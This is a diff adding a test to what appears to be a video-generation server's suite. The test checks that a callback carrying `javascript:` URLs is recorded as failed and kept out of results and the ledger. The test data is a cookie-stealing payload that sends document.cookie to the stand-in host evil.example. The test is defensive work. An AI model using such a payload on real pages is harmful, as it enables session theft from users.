@@ -177,6 +177,28 @@ async def test_only_the_right_secret_for_the_right_task_records_anything(
             }
 
 
+async def test_a_delivered_javascript_url_reaches_no_result_or_row(
+    sim_server: SimulatorServer, private_folders: Path
+) -> None:
+    """A genuine delivery (its own secret and task) whose video and thumbnail are `javascript:`
+    URLs: taken, recorded as failed with the reason, and no result or ledger cell holds them."""
+    sim_server.simulator.processing_seconds = 120
+    evil = "javascript:fetch('https://evil.example/?'+document.cookie)"
+    with callback_server(sim_server.url) as server:
+        async with client(server.url) as remote:
+            task_id = task_of(await remote.call_tool("generate_video", {"prompt": "Evil", "wait_seconds": 0})).task_id
+            body = {**succeeded_body(sim_server.url, task_id), "video_url": evil, "thumbnail_url": evil}
+            assert (
+                await deliver(server, secret_in(callback_url(sim_server.simulator, "Evil")), body)
+            ).status_code == 204
+            seen = [await remote.call_tool("get_task", {"task_id": task_id}), await remote.call_tool("list_tasks", {})]
+    [task] = seen[0].structured_content["tasks"]
+    assert task["status"] == "failed" and task["error"]["code"] == "unusable_video_url"
+    for result in seen:
+        assert "javascript" not in text_of(result) and "javascript" not in json.dumps(result.structured_content)
+    assert all("javascript" not in cell for cell in every_cell(private_folders / "ledger.sqlite3"))
+
+
 async def test_malformed_deliveries_are_refused_before_the_ledger(
     sim_server: SimulatorServer, private_folders: Path
 ) -> None:
